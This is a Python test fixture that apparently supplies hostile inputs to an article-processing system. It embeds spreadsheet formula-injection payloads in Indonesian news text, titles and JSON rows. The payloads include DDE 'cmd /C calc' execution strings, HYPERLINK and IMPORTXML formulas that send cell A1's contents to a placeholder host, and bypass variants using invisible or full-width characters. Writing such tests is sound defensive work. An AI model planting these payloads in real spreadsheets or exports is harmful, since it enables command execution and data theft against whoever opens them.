"""Formulas: what a spreadsheet would run is text of an article like any other."""

from __future__ import annotations

import json
from collections.abc import Iterator

from tests.hostile.inputs import SENTENCE, Hostile, called

__all__ = ["FORMULAS", "inputs"]

FORMULAS = [
    "=1+1",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://contoh.id?x="&A1,"klik")',
    "+62 21 555",
    "-2+3+cmd|' /C calc'!D2",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    " =1+1",
    "＝1+1",
    "'=1+1",
    '"=1+1"',
    ";=1+1",
    '=IMPORTXML(CONCAT("http://contoh.id/",A1),"//a")',
    "%0A=1+1",
    "\ufeff=1+1",
    "\u200b=1+1",
    "\x00=1+1".replace("\x00", "\x01"),
]


def inputs() -> Iterator[Hostile]:
    for number, formula in enumerate(FORMULAS, 1):
        name = f"formula-{number:02}"
        yield called(name, f"{SENTENCE}\n“{formula} itu aman,” kata {formula}, Senin.")
        yield called(f"{name}-only", f"{formula}\n{SENTENCE}")
        row = {"id": f"{formula} {number}", "text": SENTENCE, "title": formula, "outlet": formula}
        yield Hostile(f"{name}.json", json.dumps(row))
